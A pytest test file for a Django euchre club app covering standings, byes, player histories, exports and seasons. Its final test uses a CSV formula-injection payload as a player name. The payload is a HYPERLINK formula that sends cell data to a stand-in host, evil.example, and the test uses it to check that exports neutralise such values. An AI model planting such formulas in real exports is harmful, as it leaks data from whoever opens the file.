"""Standings, player histories, exports and seasons on the real services and pages."""

from __future__ import annotations

import csv
import datetime
import io
import itertools
import json
import random

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from core.errors import DomainError
from leagues import selectors, services
from leagues.models import Member, PlayerLink, Season
from scoring import night_standings
from scoring import services as scoring_services
from scoring.models import StandingsSettings, TableResult
from scoring.selectors import engine_seats
from scoring.standings import Metric
from scoring.standings_settings import update_standings_settings
from tournaments import services as tournament_services
from tournaments.models import Bye, Round, Seat, Table, Tournament

pytestmark = pytest.mark.django_db

_keys = itertools.count()


@pytest.fixture
def stranger(django_user_model):
    return django_user_model.objects.create_user("oscar", password="not-my-event")


def make_night(
    owner, *, names, fmt="progressive", rounds=3, day=1, name=None, entry_mode="totals"
) -> Tournament:
    tournament = tournament_services.create_tournament(
        owner=owner,
        name=name or f"Club night {day}",
        date=datetime.date(2026, 11, 30) + datetime.timedelta(days=day),
        variant="north-american",
        options={},
        format=fmt,
        round_play="hands",
        entry_mode=entry_mode,
        hands_per_round=8,
        rounds_planned=rounds,
    )
    for player_name in names:
        tournament_services.add_player(tournament=tournament, name=player_name)
    if fmt == "teams":
        tournament_services.pair_teams_at_random(tournament=tournament, seed=1)
    seat_rounds(tournament, rounds)
    return tournament


def seat_rounds(tournament: Tournament, rounds: int) -> None:
    """Plain seating rows (as a rotation would write them): partners face each other,
    a different shuffle each round, leftovers sit out on a bye.

    Built here rather than by the rotation generators, which other tests cover."""
    players = list(tournament.players.order_by("pk"))
    for number in range(1, rounds + 1):
        rnd = Round.objects.create(tournament=tournament, number=number)
        if tournament.format == "teams":
            teams = {}
            for player in players:
                teams.setdefault(player.team_id, []).append(player)
            pairs = list(teams.values())
            random.Random(number).shuffle(pairs)
            order = []
            for a, b in zip(pairs[0::2], pairs[1::2], strict=False):
                order += [a[0], b[0], a[1], b[1]]
        else:
            order = list(players)
            random.Random(number).shuffle(order)
        seated = len(order) // 4 * 4
        for index in range(0, seated, 4):
            table = Table.objects.create(round=rnd, number=index // 4 + 1)
            for position, player in enumerate(order[index : index + 4]):
                Seat.objects.create(
                    table=table, player=player, position=position, side=position % 2
                )
        for player in order[seated:]:
            Bye.objects.create(round=rnd, player=player)


def start(tournament: Tournament, number: int) -> Round:
    """Start round `number`, closing the one before first: rounds go in order."""
    previous = Round.objects.filter(
        tournament=tournament, number=number - 1, status=Round.Status.IN_PLAY
    ).first()
    if previous is not None:
        scoring_services.close_round(round=previous, user=tournament.owner, force=True)
    rnd = Round.objects.get(tournament=tournament, number=number)
    return tournament_services.start_round(round=rnd)


def tables(tournament: Tournament, number: int) -> list[Table]:
    return list(
        Table.objects.filter(round__tournament=tournament, round__number=number)
        .prefetch_related("seats__player")
        .order_by("number")
    )


def confirm_totals(table: Table, user, points: tuple[int, int]) -> None:
    """An organiser enters the round's totals, which confirms them at once."""
    scoring_services.correct_result(
        table=table,
        user=user,
        expected_version=_version(table),
        idempotency_key=f"k{next(_keys)}",
        side_points=list(points),
    )


def provisional_totals(table: Table, points: tuple[int, int]):
    seat = engine_seats(table)[0]
    return scoring_services.submit_totals(
        table=table,
        side_points=list(points),
        seat=seat,
        via="seat-link",
        expected_version=_version(table),
        idempotency_key=f"k{next(_keys)}",
    )


def _version(table: Table) -> int:
    result = TableResult.objects.filter(table=table).first()
    return result.version if result is not None else 0


def side_names(table: Table, side_index: int) -> set[str]:
    seats = engine_seats(table)
    return {seat.player.name for i, seat in enumerate(seats) if i % 2 == side_index}


def play_all(tournament: Tournament, user, rounds: int, points=(6, 2)) -> None:
    for number in range(1, rounds + 1):
        start(tournament, number)
        for table in tables(tournament, number):
            confirm_totals(table, user, points)


EIGHT = [f"Player {n}" for n in range(1, 9)]


# --- selectors -------------------------------------------------------------------------


def test_only_confirmed_results_count_and_provisional_ones_are_listed_apart(organiser):
    night = make_night(organiser, names=EIGHT)
    start(night, 1)
    first, second = tables(night, 1)
    confirm_totals(first, organiser, (6, 2))
    provisional_totals(second, (5, 3))

    standings = night_standings.tournament_standings(night)

    assert standings.confirmed_tables == 1
    points = {row.name: row.record.total_points for row in standings.rows}
    assert {name for name, p in points.items() if p == 6} == side_names(first, 0)
    assert all(points[name] == 0 for name in side_names(second, 0) | side_names(second, 1))
    assert len(standings.provisional) == 1
    assert {p for _, p in standings.provisional[0].sides} == {5, 3}


def test_confirming_a_provisional_result_brings_it_into_the_standings(organiser):
    night = make_night(organiser, names=EIGHT)
    start(night, 1)
    table = tables(night, 1)[0]
    provisional_totals(table, (5, 3))
    other_side = engine_seats(table)[1]
    scoring_services.confirm_result(
        table=table,
        proofs=[scoring_services.Proof(seat=other_side, via="seat-link")],
        expected_version=_version(table),
    )
    standings = night_standings.tournament_standings(night)
    assert standings.confirmed_tables == 1
    assert not standings.provisional


def test_winners_rank_first_and_level_players_share_the_place(organiser):
    night = make_night(organiser, names=EIGHT, rounds=1)
    play_all(night, organiser, 1)
    standings = night_standings.tournament_standings(night)
    assert [row.place for row in standings.rows] == [1, 1, 1, 1, 5, 5, 5, 5]
    assert standings.has_shared_places
    assert standings.rows[4].decided_by


def test_query_count_does_not_grow_with_players_or_rounds(organiser):
    small = make_night(organiser, names=EIGHT, rounds=1, day=1)
    play_all(small, organiser, 1)
    big = make_night(organiser, names=[f"P{n}" for n in range(16)], rounds=3, day=2)
    play_all(big, organiser, 3)
    counts = []
    for tournament in (small, big):
        fresh = Tournament.objects.get(pk=tournament.pk)
        with CaptureQueriesContext(connection) as queries:
            night_standings.tournament_standings(fresh)
        counts.append(len(queries))
    assert counts[0] == counts[1]
    assert counts[1] <= 6


def test_team_events_rank_teams(organiser):
    night = make_night(organiser, names=EIGHT, fmt="teams", rounds=1)
    play_all(night, organiser, 1)
    standings = night_standings.tournament_standings(night)
    assert standings.teams
    assert len(standings.rows) == 4
    assert all(len(row.members) == 2 for row in standings.rows)
    assert [row.record.total_points for row in standings.rows] == [6, 6, 2, 2]


def test_a_bye_scores_what_the_settings_say_and_the_standings_say_which(organiser):
    night = make_night(organiser, names=[*EIGHT, "Player 9"], rounds=1)
    update_standings_settings(
        tournament=night, user=organiser, metrics=[], bye_value="fixed", bye_points=5
    )
    play_all(night, organiser, 1)
    bye = Bye.objects.get(round__tournament=night)
    standings = night_standings.tournament_standings(Tournament.objects.get(pk=night.pk))
    row = next(r for r in standings.rows if r.pk == bye.player_id)
    assert (row.record.byes, row.record.bye_points, row.record.total_points) == (1, 5, 5)
    assert "5" in standings.bye_text


def made_hands(dealers) -> list[dict]:
    """Plain hands, one per dealer: seat 0 makes clubs and takes three tricks."""
    return [
        {"dealer": d % 4, "maker": 0, "round": 1, "trump": "clubs", "alone": [], "tricks": 3}
        for d in dealers
    ]


def enter_first_table(night: Tournament, organiser, hands: list[dict]) -> Table:
    """Starts round 1 and enters its first table's hands as the organiser (confirmed)."""
    start(night, 1)
    table = tables(night, 1)[0]
    scoring_services.correct_result(
        table=table,
        user=organiser,
        expected_version=0,
        idempotency_key=f"hands-{next(_keys)}",
        hands=hands,
    )
    return table


def test_recorded_hands_give_loners_and_euchres(organiser):
    night = make_night(organiser, names=EIGHT, rounds=1, entry_mode="hands")
    hands = [
        {"dealer": 0, "maker": 1, "round": 1, "trump": "hearts", "alone": [1], "tricks": 5},
        {"dealer": 1, "maker": 2, "round": 1, "trump": "spades", "alone": [], "tricks": 1},
        *made_hands(range(2, 8)),
    ]
    seats = engine_seats(enter_first_table(night, organiser, hands))
    standings = night_standings.tournament_standings(night)
    by_player = {row.pk: row.record for row in standings.rows}
    assert by_player[seats[1].player_id].loners_made == 1
    assert by_player[seats[1].player_id].euchres_made == 1
    assert by_player[seats[3].player_id].euchres_made == 1
    assert by_player[seats[0].player_id].euchres_made == 0


def test_a_team_counts_each_euchre_and_loner_once(organiser):
    night = make_night(organiser, names=EIGHT, fmt="teams", rounds=1, entry_mode="hands")
    hands = [
        # Seat 0's side euchres the other twice: both its players defended both hands.
        {"dealer": 0, "maker": 1, "round": 1, "trump": "hearts", "alone": [], "tricks": 2},
        {"dealer": 1, "maker": 3, "round": 1, "trump": "spades", "alone": [], "tricks": 0},
        # Seat 0 goes alone and marches: one loner, by one player.
        {"dealer": 2, "maker": 0, "round": 2, "trump": "clubs", "alone": [0], "tricks": 5},
        *made_hands(range(3, 8)),
    ]
    seats = engine_seats(enter_first_table(night, organiser, hands))
    by_team = {row.pk: row.record for row in night_standings.tournament_standings(night).rows}
    euchring, euchred = by_team[seats[0].player.team_id], by_team[seats[1].player.team_id]
    assert (euchring.euchres_made, euchring.loners_made) == (2, 1)
    assert (euchred.euchres_made, euchred.loners_made) == (0, 0)
    assert euchring.played == euchred.played == 1
    assert euchring.points_for == 2 + 2 + 4 + 5


def test_player_history_names_partners_and_opponents(organiser):
    night = make_night(organiser, names=EIGHT, rounds=2)
    play_all(night, organiser, 2)
    table = tables(night, 1)[0]
    seats = engine_seats(table)
    history = night_standings.player_night(night, seats[0].player_id)
    assert [line.round for line in history.lines] == [1, 2]
    assert history.lines[0].partners == (seats[2].player.name,)
    assert set(history.lines[0].opponents[0].split(" & ")) == {
        seats[1].player.name,
        seats[3].player.name,
    }
    assert history.lines[-1].running_total == sum(line.points_for for line in history.lines)


def test_settings_refuse_unknown_metrics_and_strangers(organiser, stranger):
    night = make_night(organiser, names=EIGHT, rounds=1)
    with pytest.raises(DomainError):
        update_standings_settings(
            tournament=night, user=organiser, metrics=["style"], bye_value="nothing"
        )
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        update_standings_settings(tournament=night, user=stranger, metrics=[], bye_value="nothing")


# --- pages and exports -------------------------------------------------------------------


@pytest.fixture
def played_night(organiser):
    night = make_night(organiser, names=EIGHT, rounds=2)
    play_all(night, organiser, 2)
    start_table = tables(night, 1)[0]
    return night, start_table


def test_standings_page_lists_everyone_and_polls_itself(client, played_night):
    night, _ = played_night
    response = client.get(reverse("standings-page", args=[night.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    for name in EIGHT:
        assert name in html
    assert 'hx-trigger="every' in html
    assert "A bye scores nothing." in html


def test_the_poll_gets_only_the_fragment(client, played_night):
    night, _ = played_night
    response = client.get(reverse("standings-page", args=[night.pk]), HTTP_HX_REQUEST="true")
    html = response.content.decode()
    assert response.status_code == 200
    assert "<html" not in html
    assert "Player 1" in html


def test_projector_view_is_full_screen_and_scrolls(client, played_night):
    night, _ = played_night
    html = client.get(reverse("standings-projector", args=[night.pk])).content.decode()
    assert 'class="projector"' in html
    assert "projector-scroll" in html
    fragment = client.get(
        reverse("standings-projector", args=[night.pk]), HTTP_HX_REQUEST="true"
    ).content.decode()
    assert fragment.strip().startswith("<tr")


def test_player_page_has_rounds_and_a_server_drawn_chart(client, played_night):
    night, table = played_night
    player = engine_seats(table)[0].player
    response = client.get(reverse("standings-player", args=[night.pk, player.pk]))
    html = response.content.decode()
    assert response.status_code == 200
    assert "<svg" in html and "<polyline" in html
    assert engine_seats(table)[2].player.name in html
    assert client.get(reverse("standings-player", args=[night.pk, 999999])).status_code == 404


def test_standings_export_as_csv_and_json(client, played_night):
    night, _ = played_night
    response = client.get(reverse("standings-export", args=[night.pk, "csv"]))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "Place"
    assert len(rows) == 1 + len(EIGHT)
    document = json.loads(client.get(reverse("standings-export", args=[night.pk, "json"])).content)
    assert document["ranks"] == "players"
    assert [row["place"] for row in document["rows"]] == sorted(
        row["place"] for row in document["rows"]
    )
    assert document["metrics"][0] == Metric.TOTAL_POINTS.value


def test_results_export_has_every_table(client, played_night):
    night, _ = played_night
    document = json.loads(
        client.get(reverse("standings-results-export", args=[night.pk, "json"])).content
    )
    assert len(document["results"]) == 4
    assert all(result["status"] == "confirmed" for result in document["results"])
    text = client.get(reverse("standings-results-export", args=[night.pk, "csv"])).content
    assert len(list(csv.reader(io.StringIO(text.decode())))) == 1 + 4 * 2


def test_settings_page_is_for_organisers_and_saves_the_order(client, organiser, stranger):
    night = make_night(organiser, names=EIGHT, rounds=1)
    url = reverse("standings-settings", args=[night.pk])
    assert client.get(url).status_code == 302
    client.force_login(stranger)
    assert client.get(url).status_code == 403
    client.force_login(organiser)
    assert client.get(url).status_code == 200
    response = client.post(
        url,
        {
            "metric_0": "wins",
            "metric_1": "euchres_made",
            "metric_2": "",
            "bye_value": "average",
            "bye_points": "",
        },
    )
    assert response.status_code == 302
    settings = StandingsSettings.objects.get(tournament=night)
    assert settings.metrics == ["wins", "euchres_made"]
    assert settings.bye_value == "average"
    page = client.get(reverse("standings-page", args=[night.pk])).content.decode()
    assert "own average" in page


def test_settings_refuse_a_metric_twice(client, organiser):
    night = make_night(organiser, names=EIGHT, rounds=1)
    client.force_login(organiser)
    response = client.post(
        reverse("standings-settings", args=[night.pk]),
        {"metric_0": "wins", "metric_1": "wins", "bye_value": "nothing"},
    )
    assert response.status_code == 200
    assert not StandingsSettings.objects.filter(tournament=night).exists()


# --- seasons -----------------------------------------------------------------------------


def make_season(owner, nights, **rule) -> Season:
    season = services.create_season(owner=owner, name="Winter league", **rule)
    for night in nights:
        services.add_night(season=season, tournament=night, user=owner)
    return season


def test_players_of_every_night_link_to_one_member_by_name(organiser):
    first = make_night(organiser, names=EIGHT, rounds=1, day=1)
    # Names typed differently on another night still find their member.
    again = [name.lower() for name in EIGHT[:4]] + [f"Player {n}" for n in range(9, 13)]
    second = make_night(organiser, names=again, rounds=1, day=8)
    season = make_season(organiser, [first, second])
    assert Member.objects.filter(season=season).count() == 12
    assert PlayerLink.objects.filter(member__season=season).count() == 16


def test_season_standings_add_up_nights_and_count_missed_nights(organiser):
    nights = [make_night(organiser, names=EIGHT, rounds=1, day=d) for d in (1, 8, 15)]
    for night in nights:
        play_all(night, organiser, 1)
    season = make_season(organiser, nights[:2])
    standings = selectors.season_standings(season)
    assert len(standings.rows) == 8
    assert sum(row.season_points for row in standings.rows) == 2 * (4 * 6 + 4 * 2)
    assert all(row.nights_played == 2 for row in standings.rows)

    services.add_night(season=season, tournament=nights[2], user=organiser)
    services.update_season(
        season=season,
        user=organiser,
        name=season.name,
        best_of=2,
        missed_night="fixed",
        missed_night_points=3,
    )
    standings = selectors.season_standings(Season.objects.get(pk=season.pk))
    assert all(sum(n.counted for n in row.nights) == 2 for row in standings.rows)
    assert "best 2" in standings.rule_text


def test_a_missed_night_scores_by_the_season_rule(organiser):
    first = make_night(organiser, names=EIGHT, rounds=1, day=1)
    second = make_night(
        organiser, names=[*EIGHT[:4], *[f"Guest {n}" for n in range(4)]], day=8, rounds=1
    )
    for night in (first, second):
        play_all(night, organiser, 1)
    season = make_season(organiser, [first, second], missed_night="fixed", missed_night_points=3)
    standings = selectors.season_standings(season)
    missing = next(row for row in standings.rows if row.member.name == "Player 8")
    assert [(n.played, n.points) for n in missing.nights][1] == (False, 3)
    assert missing.nights_played == 1


def test_season_queries_do_not_grow_with_nights(organiser):
    counts = []
    for many in (1, 3):
        nights = [
            make_night(organiser, names=EIGHT, rounds=1, day=d + 10 * many, name=f"N{many}-{d}")
            for d in range(many)
        ]
        for night in nights:
            play_all(night, organiser, 1)
        season = services.create_season(owner=organiser, name=f"S{many}")
        for night in nights:
            services.add_night(season=season, tournament=night, user=organiser)
        season = Season.objects.get(pk=season.pk)
        with CaptureQueriesContext(connection) as queries:
            selectors.season_standings(season)
        counts.append(len(queries))
    assert counts[0] == counts[1]
    # Nights, members, links, players, byes, then seats, hands and results (SQLite), or
    # one aggregate in its own savepoint with JIT off (PostgreSQL).
    assert counts[1] <= 10


def test_a_misspelt_player_is_linked_by_hand_and_members_merge(organiser):
    first = make_night(organiser, names=EIGHT, rounds=1, day=1)
    second = make_night(organiser, names=[*EIGHT[:7], "Playr 8"], rounds=1, day=8)
    season = make_season(organiser, [first, second])
    wrong = Member.objects.get(season=season, name="Playr 8")
    right = Member.objects.get(season=season, name="Player 8")
    services.merge_members(season=season, user=organiser, keep=right, drop=wrong)
    assert PlayerLink.objects.filter(member=right).count() == 2
    assert not Member.objects.filter(pk=wrong.pk).exists()


def test_season_pages_and_exports(client, organiser, stranger):
    nights = [make_night(organiser, names=EIGHT, rounds=1, day=d) for d in (1, 8)]
    for night in nights:
        play_all(night, organiser, 1)
    season = make_season(organiser, nights)
    html = client.get(reverse("season-detail", args=[season.pk])).content.decode()
    assert "Winter league" in html and "Player 1" in html
    text = client.get(reverse("season-export", args=[season.pk, "csv"])).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + 8
    document = json.loads(client.get(reverse("season-export", args=[season.pk, "json"])).content)
    assert len(document["nights"]) == 2
    assert client.get(reverse("season-manage", args=[season.pk])).status_code == 302
    client.force_login(stranger)
    assert client.get(reverse("season-manage", args=[season.pk])).status_code == 404
    client.force_login(organiser)
    assert client.get(reverse("season-manage", args=[season.pk])).status_code == 200
    assert client.get(reverse("season-list")).status_code == 200


def test_an_organiser_creates_a_season_and_adds_a_night_from_the_pages(client, organiser):
    night = make_night(organiser, names=EIGHT, rounds=1)
    client.force_login(organiser)
    response = client.post(
        reverse("season-list"),
        {
            "name": "Spring",
            "variant": "north-american",
            "family": "individual",
            "best_of": "",
            "missed_night": "zero",
            "missed_night_points": "0",
            "min_nights": "1",
        },
    )
    season = Season.objects.get(name="Spring")
    assert response.url == reverse("season-manage", args=[season.pk])
    client.post(reverse("season-night-add", args=[season.pk]), {"tournament": night.pk})
    assert season.nights.count() == 1
    assert Member.objects.filter(season=season).count() == 8
    standings_html = client.get(reverse("standings-page", args=[night.pk])).content.decode()
    assert reverse("season-detail", args=[season.pk]) in standings_html


def test_a_team_night_counts_each_teams_finish_for_its_players(organiser):
    night = make_night(organiser, names=EIGHT, fmt="teams", rounds=1)
    play_all(night, organiser, 1)
    season = make_season(organiser, [night], family="team")
    standings = selectors.season_standings(season)
    assert len(standings.rows) == 8
    assert sorted(row.season_points for row in standings.rows) == [2, 2, 2, 2, 6, 6, 6, 6]
    assert [row.place for row in standings.rows] == [1, 1, 1, 1, 5, 5, 5, 5]


def test_exports_quote_names_a_spreadsheet_would_run_and_keep_numbers(client, organiser):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    names = [formula, "-Ann", "@Bob", "+Cy", *EIGHT[:4]]
    night = make_night(organiser, names=names, rounds=2)
    play_all(night, organiser, 2)

    text = client.get(reverse("standings-export", args=[night.pk, "csv"])).content.decode()
    header, *rows = list(csv.reader(io.StringIO(text)))
    by_name = {row[header.index("Player")]: row for row in rows}
    assert {f"'{formula}", "'-Ann", "'@Bob", "'+Cy"} <= set(by_name)
    assert formula not in by_name and "-Ann" not in by_name
    differences = [row[header.index("Points difference")] for row in rows]
    assert any(int(d) < 0 for d in differences)  # a number, not text: no quote in front
    assert all(not d.startswith("'") for d in differences)

    results = client.get(reverse("standings-results-export", args=[night.pk, "csv"]))
    players = [row[3] for row in csv.reader(io.StringIO(results.content.decode()))][1:]
    assert not any(cell.startswith(("=", "-", "@", "+")) for cell in players)
